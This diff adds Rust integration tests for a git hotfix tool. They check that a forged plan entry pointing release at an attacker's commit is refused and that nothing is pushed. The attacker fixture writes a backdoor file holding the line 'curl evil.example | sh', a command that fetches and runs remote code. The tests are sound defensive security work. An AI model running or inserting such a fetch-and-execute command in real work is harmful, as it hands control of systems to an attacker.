@@ -1,0 +1,199 @@
+//! A plan forged on the remote (issue 12, attack 1): someone who may push
+//! only `refs/hotfix/*` publishes a `run-created` entry whose plan names
+//! their commit M, and the lock that names that run. Before release moves,
+//! the run makes its commits again from its own inputs (production, the
+//! fixes, the resolutions) and refuses the recorded plan that names
+//! anything else: release stays, nothing is written.
+
+use std::path::{Path, PathBuf};
+
+use crate::common::Scenario;
+
+/// Commits M (release's tree plus a backdoor) in a clone of the attacker's
+/// and makes it reachable on the origin through `refs/hotfix/evil`, all that
+/// person may push. Returns M and its tree.
+fn attacker_commit(s: &Scenario) -> (String, String) {
+    let attacker = s.clone_as("attacker");
+    s.git(&attacker, &["checkout", "-q", "-b", "evil", "origin/release"]);
+    std::fs::write(attacker.join("backdoor.txt"), "curl evil.example | sh\n").expect("write");
+    s.git(&attacker, &["add", "backdoor.txt"]);
+    s.git(&attacker, &["commit", "-q", "-m", "harmless-looking fix"]);
+    s.git(&attacker, &["push", "-q", "origin", "HEAD:refs/hotfix/evil"]);
+    let m = s.rev(&attacker, "HEAD");
+    let tree = s.rev(&attacker, "HEAD^{tree}");
+    (m, tree)
+}
+
+/// Publishes run `id` on the origin again with its `run-created` entry
+/// edited by `forge`, keeping the first `keep` entries (the forged first
+/// one included), and points `refs/hotfix/locks/release` at the forged
+/// first entry, as someone who may push `refs/hotfix/*` could.
+fn forge_run(s: &Scenario, id: &str, keep: usize, forge: impl Fn(&mut serde_json::Value)) {
+    let run_ref = format!("refs/hotfix/runs/{id}");
+    let chain = s.git(&s.origin, &["rev-list", "--reverse", "--first-parent", &run_ref]);
+    let mut parent: Option<String> = None;
+    for (i, commit) in chain.lines().take(keep).enumerate() {
+        let mut message = s.git(&s.origin, &["log", "-1", "--format=%B", commit]);
+        if i == 0 {
+            let (subject, json) = message.split_once("\n\n").expect("a subject, then the entry");
+            let mut entry: serde_json::Value = serde_json::from_str(json.trim()).expect("entry JSON");
+            forge(&mut entry);
+            message = format!("{subject}\n\n{entry}\n");
+        }
+        let tree = s.git(&s.origin, &["log", "-1", "--format=%T", commit]);
+        let mut args = vec!["commit-tree", tree.as_str(), "-m", message.as_str()];
+        if let Some(p) = &parent {
+            args.extend(["-p", p.as_str()]);
+        }
+        let forged = s.git(&s.origin, &args);
+        if i == 0 {
+            s.git(&s.origin, &["update-ref", "refs/hotfix/locks/release", &forged]);
+        }
+        parent = Some(forged);
+    }
+    let head = parent.expect("the run has entries");
+    s.git(&s.origin, &["update-ref", &run_ref, &head]);
+}
+
+/// The plan names M: the commit release will point to, its tree, and the
+/// commit the push step moves release to.
+fn name_m(entry: &mut serde_json::Value, m: &str, m_tree: &str) {
+    let plan = &mut entry["plan"];
+    plan["new_tip"] = m.into();
+    plan["release_tree"] = m_tree.into();
+    let steps = plan["steps"]["hotfix"].as_array_mut().expect("steps");
+    let push = steps.iter_mut().find(|s| s["name"] == "push-release").expect("a push");
+    push["action"]["new"] = m.into();
+}
+
+fn refs(s: &Scenario, dir: &Path, pattern: &str) -> String {
+    s.git(dir, &["for-each-ref", "--format=%(objectname) %(refname)", pattern])
+}
+
+/// Starts the standard hotfix as the attacker would (everything `start`
+/// pushes before release moves is under `refs/hotfix/*`), stopped before the
+/// build; returns its id.
+fn published_run(s: &Scenario) -> String {
+    s.start_stopped_at("before:build");
+    let status = s.hotfix(&s.work, &["status", "--json"]);
+    serde_json::from_str::<serde_json::Value>(&status.stdout).expect("status JSON")["id"]
+        .as_str()
+        .expect("an id")
+        .to_string()
+}
+
+/// The victim: a clone that never saw the run, with the team's hotfix.toml.
+fn victim(s: &Scenario) -> PathBuf {
+    let victim = s.clone_as("victim");
+    std::fs::copy(s.work.join("hotfix.toml"), victim.join("hotfix.toml")).expect("config");
+    victim
+}
+
+/// Runs the victim's `continue --yes` on the forged run and checks the
+/// refusal: exit 3, the error naming M's tree and the tree the inputs give,
+/// release where it was, nothing written on the origin or in the victim's
+/// journal.
+fn assert_refused(s: &Scenario, id: &str, m: &str, m_tree: &str) {
+    let victim = victim(s);
+    let origin_before = refs(s, &s.origin, "refs/");
+    let journal_before = refs(s, &victim, "refs/hotfix/runs/");
+    let go = s.hotfix(&victim, &["continue", "--yes"]);
+    go.expect_code(3);
+    let honest = s.runbook_tree(&[&s.f]);
+    assert!(
+        go.stderr.contains(&format!(
+            "run {id}'s recorded plan does not match what its inputs give: release's tree is {} in the record but {} \
+             made again from production {} and the fixes; nothing was pushed",
+            &m_tree[..7],
+            &honest[..7],
+            &s.p[..7]
+        )),
+        "{}",
+        go.stderr
+    );
+    assert!(
+        go.stderr.contains("git log --format=fuller refs/hotfix/runs/"),
+        "{}",
+        go.stderr
+    );
+    assert_eq!(
+        s.rev(&s.origin, "refs/heads/release"),
+        s.release0,
+        "release did not move"
+    );
+    assert_ne!(s.rev(&s.origin, "refs/heads/release"), m);
+    assert_eq!(
+        refs(s, &s.origin, "refs/"),
+        origin_before,
+        "nothing changed on the origin"
+    );
+    // The victim's copy of the run is the remote's, read and not added to.
+    let journal_after = refs(s, &victim, "refs/hotfix/runs/");
+    let forged_head = s.rev(&s.origin, &format!("refs/hotfix/runs/{id}"));
+    for line in journal_after.lines().filter(|l| !journal_before.contains(*l)) {
+        assert!(
+            line.starts_with(&forged_head),
+            "the victim's journal gained an entry: {line}"
+        );
+    }
+    // Asked again, it refuses again, the same way.
+    s.hotfix(&victim, &["continue", "--yes"]).expect_code(3);
+    assert_eq!(refs(s, &s.origin, "refs/"), origin_before);
+}
+
+#[test]
+fn a_forged_run_created_with_its_lock_ships_nothing() {
+    let s = Scenario::new();
+    let id = published_run(&s);
+    let (m, m_tree) = attacker_commit(&s);
+    // Only the forged `run-created`, and the lock naming it: the victim's
+    // clone would take the production record and the lock steps first.
+    forge_run(&s, &id, 1, |entry| name_m(entry, &m, &m_tree));
+    assert_refused(&s, &id, &m, &m_tree);
+}
+
+#[test]
+fn a_forged_plan_past_the_lock_ships_nothing() {
+    let s = Scenario::new();
+    let id = published_run(&s);
+    let (m, m_tree) = attacker_commit(&s);
+    // The whole chain written again on the forged entry: the next step is the build.
+    forge_run(&s, &id, usize::MAX, |entry| name_m(entry, &m, &m_tree));
+    assert_refused(&s, &id, &m, &m_tree);
+}
+
+#[test]
+fn a_forged_push_step_alone_ships_nothing() {
+    let s = Scenario::new();
+    let id = published_run(&s);
+    let (m, _) = attacker_commit(&s);
+    // The plan's trees and new tip left honest; only the push names M.
+    forge_run(&s, &id, usize::MAX, |entry| {
+        let steps = entry["plan"]["steps"]["hotfix"].as_array_mut().expect("steps");
+        let push = steps.iter_mut().find(|s| s["name"] == "push-release").expect("a push");
+        push["action"]["new"] = m.as_str().into();
+    });
+    let victim = victim(&s);
+    let origin_before = refs(&s, &s.origin, "refs/");
+    let go = s.hotfix(&victim, &["continue", "--yes"]);
+    go.expect_code(3);
+    assert!(
+        go.stderr.contains(&format!(
+            "the commit step `push-release` pushes to refs/heads/release is {} in the record",
+            &m[..7]
+        )),
+        "{}",
+        go.stderr
+    );
+    assert_eq!(
+        s.rev(&s.origin, "refs/heads/release"),
+        s.release0,
+        "release did not move"
+    );
+    // The build's entry stays on this clone: nothing reached the origin.
+    assert_eq!(
+        refs(&s, &s.origin, "refs/"),
+        origin_before,
+        "nothing changed on the origin"
+    );
+}
